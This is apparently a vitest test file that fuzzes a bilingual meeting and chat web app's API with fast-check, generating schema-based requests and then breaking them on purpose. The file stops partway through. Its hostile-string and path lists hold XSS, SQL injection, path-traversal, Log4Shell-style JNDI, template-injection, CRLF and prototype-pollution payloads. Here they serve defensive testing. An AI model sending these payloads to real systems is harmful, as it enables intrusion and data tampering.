import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import type { Server as HttpServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { serve } from '@hono/node-server';
import { queryRows } from '@majlis/core/db/connect';
import { createRuntime, type Runtime } from '@majlis/core/runtime';
import { createTestDatabase, drivers, type TestDatabase, testConfig } from '@majlis/core/testing';
import { sql } from 'drizzle-orm';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { createApp } from '../src/app.ts';
import { buildOpenApi } from '../src/http/openapi.ts';
import { isSignedCallback } from '../src/http/session.ts';
import { attachRealtime } from '../src/realtime/server.ts';
import { TestClient } from './client.ts';
import { ChatClient } from './realtime-client.ts';

const PASSWORD = 'Demo-password-1';

/** A built client stand-in, so the static middleware (and its URL decoding) is in the path of every request. */
function fakeClientDist(): string {
  const dist = mkdtempSync(join(tmpdir(), 'majlis-dist-'));
  mkdirSync(join(dist, 'assets'));
  writeFileSync(join(dist, 'index.html'), '<!doctype html><title>Majlis</title>');
  writeFileSync(join(dist, 'assets', 'app.js'), 'console.log(1)');
  return dist;
}

describe.each(drivers)('hostile input on %s', (driver) => {
  let database: TestDatabase;
  let runtime: Runtime;
  let app: ReturnType<typeof createApp>;
  const config = testConfig({ TRUST_PROXY: '1' });
  const client = () => new TestClient((url, init) => app.request(url, init));
  const clientDist = fakeClientDist();

  beforeAll(async () => {
    database = await createTestDatabase(driver, { seeded: true });
    runtime = await createRuntime(config, { database });
    app = createApp(runtime, { clientDist });
  });
  afterAll(async () => {
    await runtime?.close();
    await database?.drop();
    config.cleanup();
    rmSync(clientDist, { recursive: true, force: true });
  });

  it('NUL in register, login, contact and chat text: 400 naming the field, in both languages', async () => {
    const anon = client();
    await anon.csrf();
    const register = await anon.post('/api/register', {
      fname: 'Mo\u0000na',
      lname: 'Saleh',
      email: 'nul.register@example.test',
      password: 'correct horse battery',
      phone: '+201001234567',
      acceptTerms: true,
      ageConfirmed: true,
    });
    expect(register.status).toBe(400);
    expect(Object.keys(register.json.fields)).toEqual(['fname']);
    expect(register.json.fields.fname.en).toMatch(/control characters/);
    expect(register.json.fields.fname.ar).toMatch(/محارف تحكم/);

    const login = await anon.post('/api/login', { email: 'owner@demo.test\u0000', password: PASSWORD });
    expect(login.status).toBe(400);
    expect(Object.keys(login.json.fields)).toEqual(['email']);

    const contact = await anon.post('/api/contact', {
      name: 'Mona',
      email: 'mona@example.test',
      kind: 'question',
      message: 'line one\nline two\u0000',
    });
    expect(contact.status).toBe(400);
    expect(Object.keys(contact.json.fields)).toEqual(['message']);

    const member = client();
    const login2 = await member.login('member@demo.test', PASSWORD);
    expect(login2.status).toBe(200);
    const teams = (await member.get('/api/teams')).json as { _id: string }[];
    const conversation = await member.post('/api/chat/conversation', {
      type: 'team',
      teamId: teams[0]?._id,
      ownerId: login2.json.user.ownerId,
    });
    expect(conversation.status).toBe(200);
    const chat = await member.post('/api/chat/message', { conversationId: conversation.json._id, text: 'hi\u0000' });
    expect(chat.status).toBe(400);
    expect(Object.keys(chat.json.fields)).toEqual(['text']);
    // Multi-line text keeps its line breaks and tabs.
    const ok = await member.post('/api/chat/message', { conversationId: conversation.json._id, text: 'a\n\tb\r\nc' });
    expect(ok.status).toBe(201);
    expect(ok.json.text).toBe('a\n\tb\r\nc');
  });

  it('bidi overrides are stripped from names', async () => {
    const owner = client();
    expect((await owner.login('owner@demo.test', PASSWORD)).status).toBe(200);
    const room = await owner.post('/api/rooms', {
      name: '\u202eorP\u202c \u2066غرفة\u2069\u200f',
      type: 'jitsi',
      participants: 10,
    });
    expect(room.status).toBe(201);
    expect(room.json.name).toBe('orP غرفة\u200f');
    const refused = await owner.post('/api/rooms', { name: '\u202e\u2067', type: 'jitsi', participants: 10 });
    expect(refused.status).toBe(400);
    expect(Object.keys(refused.json.fields)).toEqual(['name']);
  });

  it('malformed percent-encoding in the path or query string: 400 with the error shape', async () => {
    const anon = client();
    for (const path of [
      '/%E0%A4%A',
      '/assets/%FF.js',
      '/api/%E0%A4%A',
      '/api/meetings/%E0%A4%A',
      '/api/health?x=%E0%A4%A',
      '/api/meetings?q=%ZZ%',
    ]) {
      const res = await anon.get(path, { accept: 'text/html' });
      expect(res.status, path).toBe(400);
      expect(res.json, path).toMatchObject({
        code: expect.any(String),
        errorMessage: { ar: expect.any(String), en: expect.any(String) },
      });
    }
  });
});

describe.each(drivers)('error log on %s', (driver) => {
  it('a failed query logs its class and SQLSTATE, never its parameters (the Argon2 hash, the e-mail)', async () => {
    const config = testConfig();
    const database = await createTestDatabase(driver);
    const runtime = await createRuntime(config, { database });
    // Any failing insert will do: this one fails where the registration stores its row with the password hash.
    await runtime.db.execute(
      sql`alter table pending_registrations add constraint hostile_probe check (fname <> 'Boom')`,
    );
    const app = createApp(runtime);
    const lines: string[] = [];
    const capture = (...args: unknown[]) => {
      // What console would print, objects expanded as node prints them.
      lines.push(
        args.map((a) => (typeof a === 'string' ? a : JSON.stringify(a, Object.getOwnPropertyNames(a ?? {})))).join(' '),
      );
    };
    const spies = [
      vi.spyOn(console, 'error').mockImplementation(capture),
      vi.spyOn(console, 'warn').mockImplementation(capture),
    ];
    const stderr = vi.spyOn(process.stderr, 'write').mockImplementation((chunk) => {
      lines.push(String(chunk));
      return true;
    });
    try {
      const c = new TestClient((url, init) => app.request(url, init));
      await c.csrf();
      const res = await c.post('/api/register', {
        fname: 'Boom',
        lname: 'Saleh',
        email: 'leak.probe@example.test',
        password: 'Very-secret-passphrase-7',
        phone: '+201001234567',
        acceptTerms: true,
        ageConfirmed: true,
      });
      expect(res.status).toBe(500);
      expect(res.json).toMatchObject({
        code: 'INTERNAL',
        errorMessage: { ar: expect.any(String), en: expect.any(String) },
      });
    } finally {
      for (const spy of spies) spy.mockRestore();
      stderr.mockRestore();
      await runtime.close();
      await database.drop();
      config.cleanup();
    }
    const out = lines.join('\n');
    expect(out).toMatch(
      / ERROR +POST \/api\/register \{"req":"[\w-]+"\}: DrizzleQueryError: Failed query: insert into "pending_registrations"/,
    );
    expect(out).toMatch(/23514/);
    for (const secret of ['$argon2', 'leak.probe', 'Very-secret', 'Boom', 'params']) expect(out).not.toContain(secret);
  });
});

// ---------------------------------------------------------------------------------------------------------------
// The hostile-input suite: requests generated from the routes' own schemas (buildOpenApi), then broken on purpose.
// ---------------------------------------------------------------------------------------------------------------

/** Fixed for reproducibility; HOSTILE_SEED / HOSTILE_RUNS override (the seed is printed either way). */
const SEED = Number(process.env.HOSTILE_SEED ?? 2024_09_09);
const RUNS = Number(process.env.HOSTILE_RUNS ?? 9000);
const REFUSED_RUNS = Number(process.env.HOSTILE_REFUSED_RUNS ?? 1500);
/** One seed per chunk of a run, far apart for neighbouring SEEDs (SEED + n would replay another run's chunks). */
const derivedSeed = (n: number) => Math.imul(SEED ^ 0x5bd1e995, 0x9e3779b1) ^ Math.imul(n + 2, 0x85ebca6b);

// biome-ignore lint/suspicious/noExplicitAny: generated bodies and the OpenAPI document's JSON Schemas are walked generically; their shape is what is under test.
type Json = Record<string, any>;
type Role = 'stranger' | 'anon' | 'owner' | 'admin' | 'member';
const ROLES: Role[] = ['stranger', 'anon', 'owner', 'admin', 'member'];
const SIGNED_IN: Partial<Record<Role, string>> = {
  owner: 'owner@demo.test',
  admin: 'admin@demo.test',
  member: 'member@demo.test',
};

interface Route {
  method: string;
  /** Body fields that are free text (no format, pattern or enum): where a control character gets furthest. */
  texts?: string[];
  /** Hono form, /api/meetings/:id */
  path: string;
  params: string[];
  body?: Json;
  query?: Record<string, Json>;
}

interface HostileRequest {
  /** The route it was generated for, `METHOD /path/:param`. */
  route: string;
  role: Role;
  method: string;
  url: string;
  headers: Record<string, string>;
  body?: string;
  csrf: boolean;
  what: string;
}

/** Every rate limit of the config out of the way: the suite is a flood by design. */
function highLimits(): Record<string, string> {
  const probe = testConfig();
  probe.cleanup();
  const env: Record<string, string> = {};
  for (const [key, value] of Object.entries(probe)) {
    if (!key.startsWith('RATE_') || typeof value !== 'number') continue;
    if (/DELAY/.test(key)) env[key] = '0';
    else if (!/WINDOW|SECONDS/.test(key)) env[key] = '1000000';
  }
  return env;
}

const HOSTILE_STRINGS = [
  '\u0000',
  'a\u0000b',
  'bell\u0007',
  '\u001b[2J\u001b[31mred',
  'del\u007f',
  'tab\tand\nnew line\r\n',
  '\u202eevil\u202c.exe',
  '\u2066\u2067\u2068\u2069',
  '\u200f\u200e\u061c',
  '\ud800',
  '\udfff\ud800x',
  '\ufeff\ufffe\uffff',
  '\u0085\u2028\u2029',
  '<img src=x onerror=alert(1)>',
  '<a href="https://evil.example/">click</a>',
  "'; drop table users; --",
  '" or 1=1 --',
  '../../../../etc/passwd',
  '%00',
  '%E0%A4%A',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell-style payload, meant literally.
  '${jndi:ldap://x.example/a}',
  '{{constructor.constructor("return process")()}}',
  '{name}',
  '{count, plural, one {#} other {#}}',
  '\r\nX-Injected: 1',
  '__proto__',
  'constructor',
  'null',
  'NaN',
  '-1',
  '1e309',
  '99999999999999999999999',
  '٠١٢٣٤٥٦٧٨٩',
  'مرحبا بالعالم',
  '😀'.repeat(40),
  'e\u0301\u0301\u0301\u0301\u0301',
  ' ',
  '',
];
const HUGE_STRINGS = ['x'.repeat(5_000), 'ي'.repeat(100_000), '\u0000'.repeat(10_000), 'a'.repeat(1_200_000)];
const hostileString = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom(...HOSTILE_STRINGS) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.constantFrom(...HUGE_STRINGS) },
);

/** encodeURIComponent that takes lone surrogates too (it throws on them; a URL cannot carry them anyway). */
function enc(value: string): string {
  return encodeURIComponent(value.replace(/\p{Cs}/gu, '\ufffd'));
}

function pad(n: number) {
  return String(n).padStart(2, '0');
}
const dayArb = fc.integer({ min: -30, max: 400 }).map((d) => {
  const t = new Date(Date.now() + d * 86_400_000);
  return `${t.getUTCFullYear()}-${pad(t.getUTCMonth() + 1)}-${pad(t.getUTCDate())}`;
});
const hourArb = fc
  .tuple(fc.integer({ min: 0, max: 23 }), fc.integer({ min: 0, max: 59 }))
  .map(([h, m]) => `${pad(h)}:${pad(m)}`);

interface Known {
  /** Existing ids by table (users, accounts, teams, rooms, meetings, occurrences, conversations) and all of them. */
  ids: Record<string, string[]> & { all: string[] };
  numbers: string[];
  emails: string[];
}

/** Which table an id field or path segment most likely names, so that handlers get past their lookups. */
function idsFor(known: Known, key: string, path = ''): string[] {
  const kind =
    key === 'occurrenceId'
      ? 'occurrences'
      : key === 'conversationId'
        ? 'conversations'
        : key === 'teamId'
          ? 'teams'
          : key === 'roomId'
            ? 'rooms'
            : key === 'ownerId'
              ? 'accounts'
              : /^(userId|sender|senderId|receiverId|recieverId|assistants)$/.test(key)
                ? 'users'
                : key === 'id'
                  ? (/\/api\/(\w+)\//.exec(path)?.[1] ?? '')
                  : '';
  const ids = known.ids[kind];
  return ids?.length ? ids : known.ids.all;
}

/** A value for one JSON-schema node: mostly valid (so the request gets past validation), now and then hostile. */
function valueArb(schema: Json, known: Known, key = '', depth = 0): fc.Arbitrary<unknown> {
  const valid = validArb(schema, known, key, depth, true);
  return fc.oneof({ weight: 12, arbitrary: valid }, { weight: 1, arbitrary: hostileString });
}

/** A value the schema accepts (as far as JSON schema says); `hostile`: its fields now and then are not. */
function validArb(schema: Json, known: Known, key: string, depth: number, hostile = false): fc.Arbitrary<unknown> {
  if (key === 'assistants' && schema.type === 'array') {
    return fc.uniqueArray(fc.constantFrom(...idsFor(known, key)), { maxLength: 3 });
  }
  if (schema.const !== undefined) return fc.constant(schema.const);
  if (Array.isArray(schema.enum)) return fc.constantFrom(...schema.enum);
  const union = schema.anyOf ?? schema.oneOf;
  if (Array.isArray(union)) return fc.oneof(...union.map((s: Json) => validArb(s, known, key, depth)));
  const type = Array.isArray(schema.type) ? schema.type[0] : schema.type;
  switch (type) {
    case 'object': {
      const props = (schema.properties ?? {}) as Record<string, Json>;
      const required = (schema.required ?? []) as string[];
      const model = Object.fromEntries(
        Object.entries(props).map(([k, s]) => [
          k,
          hostile && depth <= 3 ? valueArb(s, known, k, depth + 1) : validArb(s, known, k, depth + 1),
        ]),
      );
      return fc.record(model, { requiredKeys: required });
    }
    case 'array':
      return fc.array(validArb(schema.items ?? {}, known, key, depth + 1), {
        minLength: Math.min(schema.minItems ?? 0, 3),
        maxLength: Math.min(schema.maxItems ?? 5, 8),
      });
    case 'integer':
      return fc.integer({ min: Math.max(schema.minimum ?? -1000, -1e9), max: Math.min(schema.maximum ?? 1000, 1e9) });
    case 'number':
      return fc.double({ min: schema.minimum ?? -1000, max: schema.maximum ?? 1000, noNaN: true });
    case 'boolean':
      return fc.boolean();
    case 'null':
      return fc.constant(null);
    case 'string':
      return stringArb(schema, known, key);
    default:
      return fc.jsonValue({ maxDepth: 2 });
  }
}

function stringArb(schema: Json, known: Known, key: string): fc.Arbitrary<string> {
  if (schema.format === 'uuid' || /(^id$|Id$|^sender$)/.test(key)) {
    return fc.oneof(
      { weight: 5, arbitrary: fc.constantFrom(...idsFor(known, key)) },
      { weight: 1, arbitrary: fc.constantFrom(...known.ids.all) },
      { weight: 1, arbitrary: fc.uuid() },
    );
  }
  if (schema.format === 'email' || /email/i.test(key)) {
    return fc.oneof(
      fc.constantFrom(...known.emails),
      fc.stringMatching(/^[a-z][a-z0-9.]{0,12}@(example\.test|demo\.test)$/),
      fc.emailAddress(),
    );
  }
  if (schema.format === 'date-time' || key === 'startsAt' || key === 'createdAt') {
    return fc
      .date({ min: new Date(Date.now() - 864e5), max: new Date(Date.now() + 90 * 864e5), noInvalidDate: true })
      .map((d) => d.toISOString());
  }
  if (['day', 'from', 'to'].includes(key)) return dayArb;
  if (key === 'hour') return hourArb;
  if (key === 'phone') return fc.constantFrom('+201001234567', '+966501234567', '0100', '+1 (555) 010-9999');
  if (key === 'timeZone') return fc.constantFrom('Africa/Cairo', 'Asia/Riyadh', 'UTC', 'Mars/Olympus');
  if (key === 'number') return fc.oneof(fc.constantFrom(...known.numbers), fc.stringMatching(/^\d{8,12}$/));
  if (key === 'password')
    return fc.constantFrom(PASSWORD, 'correct horse battery staple', '12345678', 'owner@demo.test');
  if (typeof schema.pattern === 'string') {
    try {
      return fc.stringMatching(new RegExp(schema.pattern));
    } catch {
      // a pattern JavaScript does not read: plain strings below
    }
  }
  const minLength = Math.min(schema.minLength ?? 0, 60);
  const maxLength = Math.max(minLength, Math.min(schema.maxLength ?? 60, 60));
  return fc.oneof(
    fc.string({ minLength, maxLength }),
    fc.string({ unit: 'grapheme', minLength, maxLength }),
    fc.constantFrom('مجلس الإدارة', 'Weekly sync', 'Omar Khaled'),
  );
}

/** Path segments: real ids mostly (so handlers run), else anything a URL can carry. */
function segmentArb(known: Known, name: string, path: string): fc.Arbitrary<string> {
  const real = name === 'number' ? fc.constantFrom(...known.numbers) : fc.constantFrom(...idsFor(known, name, path));
  return fc.oneof(
    { weight: 6, arbitrary: real },
    { weight: 1, arbitrary: fc.uuid() },
    { weight: 2, arbitrary: hostileString.map((s) => enc(s.slice(0, 2000))) },
    {
      weight: 1,
      arbitrary: fc.constantFrom(
        '%00',
        '..',
        '%2e%2e',
        '%2F..%2F',
        '%E0%A4%A',
        '%',
        '9'.repeat(400),
        '%C0%AF',
        '%u0000',
      ),
    },
  );
}

const randomQueryArb = fc.oneof(
  fc
    .dictionary(fc.string({ maxLength: 10 }), fc.string({ maxLength: 30 }), { maxKeys: 4 })
    .map((d) => new URLSearchParams(d).toString()),
  fc.constantFrom(
    'a=%ZZ',
    '&&&=&=',
    'q[]=1&q[]=2',
    'page=1&page=2',
    '__proto__[x]=1',
    'constructor.prototype.x=1',
    'x=%00',
    'x=%E0%A4%A',
    '%',
  ),
);

/** The ways a request is broken after it was generated; applied in order by `build`. */
type Mutation =
  | { kind: 'field'; at: number; value: unknown }
  | { kind: 'control'; at: number; char: string }
  | { kind: 'drop'; at: number }
  | { kind: 'proto'; key: string }
  | { kind: 'raw'; text: string }
  | { kind: 'deep'; depth: number }
  | { kind: 'top'; value: unknown }
  | { kind: 'type'; value: string | null }
  | { kind: 'csrf'; value: 'none' | 'wrong' }
  | { kind: 'big' };

/** A control character added to one text field of an otherwise valid body: the 500 of issue 9 finding 5. */
const controlArb: fc.Arbitrary<Mutation> = fc.record({
  kind: fc.constant('control' as const),
  at: fc.nat(),
  char: fc.constantFrom('\u0000', '\u0001', '\u0008', '\u000b', '\u001b', '\u001f', '\u007f', '\u0000\u0000'),
});

const mutationArb: fc.Arbitrary<Mutation> = fc.oneof(
  controlArb,
  fc.record({
    kind: fc.constant('field' as const),
    at: fc.nat(),
    value: fc.oneof(hostileString, fc.anything({ maxDepth: 2 })),
  }),
  fc.record({ kind: fc.constant('drop' as const), at: fc.nat() }),
  fc.record({ kind: fc.constant('proto' as const), key: fc.constantFrom('__proto__', 'constructor', 'prototype') }),
  fc.record({
    kind: fc.constant('raw' as const),
    text: fc.oneof(
      fc.constantFrom(
        '{',
        '{"a":',
        '[1,2',
        '{"a":1}}',
        "{'a':1}",
        '\ufeff{}',
        'NaN',
        '1e999999',
        '"\\ud800"',
        '{"a":"\\u0000"}',
        'null',
        '',
        ' ',
      ),
      fc.string({ unit: 'binary', maxLength: 50 }),
    ),
  }),
  fc.record({ kind: fc.constant('deep' as const), depth: fc.constantFrom(50, 5_000, 100_000) }),
  fc.record({ kind: fc.constant('top' as const), value: fc.oneof(fc.jsonValue({ maxDepth: 1 }), fc.constant([])) }),
  fc.record({
    kind: fc.constant('type' as const),
    value: fc.constantFrom(
      null,
      'text/plain',
      'application/x-www-form-urlencoded',
      'multipart/form-data; boundary=x',
      'application/json; charset=utf-16',
      'application/xml',
      'APPLICATION/JSON',
      'application/vnd.api+json',
    ),
  }),
  fc.record({ kind: fc.constant('csrf' as const), value: fc.constantFrom('none' as const, 'wrong' as const) }),
  fc.record({ kind: fc.constant('big' as const) }),
);

const NON_API = [
  '/',
  '/login',
  '/dashbord/meeting',
  '/index.html',
  '/assets/app.js',
  '/assets/../../../../etc/passwd',
  '/%2e%2e/%2e%2e/etc/passwd',
  '/assets/%2e%2e%2f%2e%2e%2fpackage.json',
  '/%00',
  '/a%00.js',
  '/dev/outbox',
  '/admin/queues',
  '/socket.io/?EIO=4&transport=polling',
  '/event/?EIO=4&transport=polling',
  '/favicon.ico',
];

function deepJson(depth: number): string {
  return depth % 2 ? `${'['.repeat(depth)}${']'.repeat(depth)}` : `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`;
}

function build(
  route: Route,
  parts: {
    role: Role;
    method: string;
    params: string[];
    body: unknown;
    query: Record<string, unknown>;
    extra: string | null;
    mutations: Mutation[];
    html: boolean;
  },
): HostileRequest {
  let path = route.path;
  route.params.forEach((name, i) => {
    path = path.replace(`:${name}`, parts.params[i] ?? 'x');
  });
  const query = Object.entries(parts.query)
    .filter(([, v]) => v !== undefined)
    .map(([k, v]) => `${enc(k)}=${enc(typeof v === 'string' ? v : JSON.stringify(v))}`);
  if (parts.extra) query.push(parts.extra);
  const headers: Record<string, string> = {};
  if (parts.html) headers.accept = 'text/html';
  let body: unknown = parts.body;
  let raw: string | undefined;
  let csrf = true;
  let type: string | null | undefined;
  const what: string[] = [];
  for (const m of parts.mutations) {
    what.push(m.kind);
    if (m.kind === 'field' && body && typeof body === 'object' && !Array.isArray(body)) {
      const keys = Object.keys(body);
      const key = keys.length ? keys[m.at % keys.length] : 'extra';
      body = { ...(body as Json), [key as string]: m.value };
    } else if (m.kind === 'control' && body && typeof body === 'object' && !Array.isArray(body)) {
      const free = Object.entries(body as Json).filter(([k, v]) => typeof v === 'string' && route.texts?.includes(k));
      const texts = free.length ? free : Object.entries(body as Json).filter(([, v]) => typeof v === 'string');
      const [key, value] = texts.length ? (texts[m.at % texts.length] as [string, string]) : ['text', ''];
      const cut = m.at % (value.length + 1);
      body = { ...(body as Json), [key]: `${value.slice(0, cut)}${m.char}${value.slice(cut)}` };
    } else if (m.kind === 'drop' && body && typeof body === 'object' && !Array.isArray(body)) {
      const keys = Object.keys(body);
      if (keys.length) {
        const copy = { ...(body as Json) };
        delete copy[keys[m.at % keys.length] as string];
        body = copy;
      }
    } else if (m.kind === 'proto') {
      const inner = JSON.stringify(body ?? {});
      const polluted = m.key === '__proto__' ? '{"polluted":"yes","isAdmin":true}' : '{"prototype":{"polluted":"yes"}}';
      raw =
        inner.startsWith('{') && inner !== '{}'
          ? `{"${m.key}":${polluted},${inner.slice(1)}`
          : `{"${m.key}":${polluted}}`;
    } else if (m.kind === 'raw') raw = m.text;
    else if (m.kind === 'deep') raw = deepJson(m.depth);
    else if (m.kind === 'top') body = m.value;
    else if (m.kind === 'type') type = m.value;
    else if (m.kind === 'csrf') {
      csrf = m.value !== 'none';
      if (csrf) headers['x-csrf-token'] = 'forged-token';
    } else if (m.kind === 'big') raw = JSON.stringify({ text: 'x'.repeat(1_100_000) });
  }
  if (raw === undefined && body !== undefined) raw = JSON.stringify(body);
  if (['GET', 'HEAD'].includes(parts.method)) raw = undefined;
  else if (raw !== undefined && type !== null) headers['content-type'] = type ?? 'application/json';
  const url = `${path}${query.length ? `?${query.join('&')}` : ''}`;
  return {
    route: `${route.method} ${route.path}`,
    role: parts.role,
    method: parts.method,
    url,
    headers,
    body: raw,
    csrf,
    what: what.join('+') || 'schema',
  };
}

function requestArb(route: Route, known: Known): fc.Arbitrary<HostileRequest> {
  const query = route.query
    ? fc.record(Object.fromEntries(Object.entries(route.query).map(([k, s]) => [k, valueArb(s, known, k)])), {
        requiredKeys: [],
      })
    : fc.constant({});
  return fc
    .record({
      role: fc.constantFrom(...ROLES),
      method: fc.oneof(
        { weight: 12, arbitrary: fc.constant(route.method) },
        { weight: 1, arbitrary: fc.constantFrom('GET', 'POST', 'PUT', 'PATCH', 'DELETE', 'HEAD', 'OPTIONS') },
      ),
      params: fc.tuple(...route.params.map((name) => segmentArb(known, name, route.path))),
      body: route.body
        ? fc.oneof(
            { weight: 3, arbitrary: validArb(route.body, known, '', 0) },
            { weight: 1, arbitrary: valueArb(route.body, known) },
          )
        : fc.constant(undefined),
      query,
      extra: fc.oneof({ weight: 4, arbitrary: fc.constant(null) }, { weight: 1, arbitrary: randomQueryArb }),
      mutations: fc.oneof(
        { weight: 1, arbitrary: fc.constant<Mutation[]>([]) },
        { weight: 1, arbitrary: controlArb.map((m) => [m]) },
        { weight: 1, arbitrary: fc.array(mutationArb, { minLength: 1, maxLength: 3 }) },
      ),
      html: fc.boolean(),
    })
    .map((parts) => {
      // Signing out ends the fuzzing sessions: only the visitors without one send it.
      const role = route.path === '/api/logout' && SIGNED_IN[parts.role] ? 'stranger' : parts.role;
      return build(route, { ...parts, role });
    });
}

/**
 * Requests each sure to be refused: a write without CSRF token, a non-JSON content type, a control character in a
 * text field, an unknown or prototype key, broken JSON, or a malformed id.
 */
function refusedArb(routes: Route[], known: Known): fc.Arbitrary<HostileRequest> {
  const writes = routes.filter((r) => r.method !== 'GET' && !isSignedCallback(r.path));
  return fc.constantFrom(...writes).chain((route) => {
    const ingredients: fc.Arbitrary<Mutation[]>[] = [
      fc.constant([{ kind: 'csrf', value: 'none' } as Mutation]),
      fc.constant([{ kind: 'csrf', value: 'wrong' } as Mutation]),
      fc
        .constantFrom('text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x')
        .map((value) => [{ kind: 'raw', text: 'a=1' } as Mutation, { kind: 'type', value } as Mutation]),
    ];
    if (route.body) {
      ingredients.push(
        fc.constantFrom('__proto__', 'constructor', 'prototype').map((key) => [{ kind: 'proto', key } as Mutation]),
        fc.constantFrom('{', '{"a":', "{'a':1}", '[1,2', 'NaN').map((text) => [{ kind: 'raw', text } as Mutation]),
        fc.constant([{ kind: 'deep', depth: 5_000 } as Mutation]),
        fc.constant([{ kind: 'top', value: [] } as Mutation]),
      );
    }
    const controls = fc.constantFrom('\u0000', 'x\u0000y', '\u001b[31m', 'del\u007f', 'a\u0008b');
    return fc
      .record({
        role: fc.constantFrom(...ROLES),
        params: fc.tuple(...route.params.map((name) => segmentArb(known, name, route.path))),
        body: route.body ? validArb(route.body, known, '', 0) : fc.constant(undefined),
        mutations: fc.oneof(...ingredients),
        control: controls,
        useControl: fc.boolean(),
      })
      .map((p) => {
        let body = p.body;
        let mutations = p.mutations;
        // A control character in a text field the body has (login's password excepted: it is only hashed).
        const textKeys =
          body && typeof body === 'object'
            ? Object.entries(body as Json).filter(([k, v]) => typeof v === 'string' && k !== 'password')
            : [];
        if (p.useControl && textKeys.length) {
          const [key, value] = textKeys[0] as [string, string];
          body = { ...(body as Json), [key]: `${value}${p.control}` };
          mutations = [];
        }
        return build(route, {
          role: p.role,
          method: route.method,
          params: p.params,
          body,
          query: {},
          extra: null,
          mutations,
          html: false,
        });
      });
  });
}

const isRecord = (v: unknown): v is Record<string, unknown> => !!v && typeof v === 'object';

function errorShapeProblem(json: unknown): string | null {
  if (!isRecord(json)) return 'not JSON';
  if (typeof json.code !== 'string' || !json.code) return 'no code';
  // Both languages present, and rendered: an ICU placeholder left as `{name}` means a value was not passed.
  const bilingual = (b: unknown) =>
    isRecord(b) && typeof b.ar === 'string' && b.ar && typeof b.en === 'string' && b.en && !/\{\w+\}/.test(b.ar + b.en);
  if (!bilingual(json.errorMessage)) return 'no bilingual errorMessage';
  if (json.fields !== undefined) {
    if (!isRecord(json.fields)) return 'fields not an object';
    for (const [k, v] of Object.entries(json.fields)) if (!bilingual(v)) return `field ${k} not bilingual`;
  }
  return null;
}

describe('hostile-input suite (fast-check, from the route schemas)', () => {
  let database: TestDatabase;
  let runtime: Runtime;
  let app: ReturnType<typeof createApp>;
  const config = testConfig({ TRUST_PROXY: '1', ...highLimits() });
  const clientDist = fakeClientDist();
  const clients = new Map<Role, TestClient>();
  /** Each role's cookies as signed in: put back before every request, since any 401 answer clears them (DESIGN §5). */
  const jars = new Map<Role, Map<string, string>>();
  const routes: Route[] = [];
  let known: Known;

  async function signIn(role: Role) {
    const c = new TestClient((url, init) => app.request(url, init));
    const email = SIGNED_IN[role];
    if (email) expect((await c.login(email, PASSWORD)).status).toBe(200);
    else if (role === 'anon') await c.csrf();
    clients.set(role, c);
    jars.set(role, new Map(c.jar));
  }

  /** Signed-in roles whose session a fuzzed request ended (a password reset, an account switch gone wrong) sign in again. */
  async function keepSignedIn() {
    for (const role of ROLES) {
      if (!SIGNED_IN[role]) continue;
      const probe = {
        route: '',
        role,
        method: 'GET',
        url: '/api/account/type',
        headers: {},
        csrf: true,
        what: 'probe',
      };
      if ((await send(probe)).status === 401) await signIn(role);
    }
  }

  /**
   * Rows for the ids to name: rooms with meetings, a team conversation with a message. Run before each chunk of the
   * flood, since its DELETEs remove some now and then.
   */
  async function topUp() {
    // The flood, signed in as the owner, may legitimately deactivate or remove the demo member, or take them out of
    // every team (user and team management): put the institution back as the next chunk expects it.
    await queryRows(runtime.db, sql`update memberships set active = true`);
    await queryRows(runtime.db, sql`update accounts set status = 'active'`);
    await queryRows(
      runtime.db,
      sql`insert into memberships (user_id, account_id, role)
          select m.id, o.account_id, 'member' from users m, memberships o join users ou on ou.id = o.user_id
          join accounts a on a.id = o.account_id and a.kind = 'inst'
          where m.email = 'member@demo.test' and ou.email = 'owner@demo.test' and o.role = 'owner'
          on conflict do nothing`,
    );
    await queryRows(
      runtime.db,
      sql`insert into teams (account_id, name)
          select o.account_id, 'Fuzz team' from memberships o join users ou on ou.id = o.user_id
          join accounts a on a.id = o.account_id and a.kind = 'inst'
          where ou.email = 'owner@demo.test' and o.role = 'owner'
            and not exists (select 1 from teams t where t.account_id = o.account_id)`,
    );
    await queryRows(
      runtime.db,
      sql`insert into team_members (team_id, user_id)
          select t.id, m.id from users m, teams t join memberships o on o.account_id = t.account_id and o.role = 'owner'
          join users ou on ou.id = o.user_id and ou.email = 'owner@demo.test'
          where m.email = 'member@demo.test'
            and not exists (select 1 from team_members x join teams y on y.id = x.team_id
                            where x.user_id = m.id and y.account_id = t.account_id)
          order by t.created_at limit 1
          on conflict do nothing`,
    );
    await keepSignedIn();
    // A fresh session in the institution: a member taken out of it meanwhile landed in their personal account.
    await signIn('member');
    const owner = clients.get('owner') as TestClient;
    const newRoom = async () => {
      const room = await owner.post('/api/rooms', { name: 'Fuzz room', type: 'jitsi', participants: 20 });
      expect(room.status, JSON.stringify(room.json)).toBe(201);
      return room.json as { id: string };
    };
    // Rooms the flood deactivated take no meetings: only active ones count.
    const listed = (await owner.get('/api/rooms')).json.rooms as { id: string; status: string }[];
    const rooms = listed.filter((r) => r.status === 'active');
    while (rooms.length < 4) rooms.push({ ...(await newRoom()), status: 'active' });
    const [{ n } = { n: 0 }] = await queryRows<{ n: number }>(runtime.db, sql`select count(*)::int as n from meetings`);
    for (let m = n; m < 8; m++) {
      const body = { name: `Fuzz ${m}`, roomId: rooms[m % rooms.length]?.id, type: 'permanent' };
      let meeting = await owner.post('/api/meetings', body);
      if (meeting.status !== 201)
        meeting = await owner.post('/api/meetings', { ...body, roomId: (await newRoom()).id });
      expect(meeting.status, JSON.stringify(meeting.json)).toBe(201);
    }
    const member = clients.get('member') as TestClient;
    const teams = (await member.get('/api/teams')).json as { _id: string }[];
    const [inst] = await queryRows<{ id: string }>(runtime.db, sql`select account_id::text as id from teams limit 1`);
    const conversation = await member.post('/api/chat/conversation', {
      type: 'team',
      teamId: teams[0]?._id,
      ownerId: inst?.id,
    });
    expect(conversation.status).toBe(200);
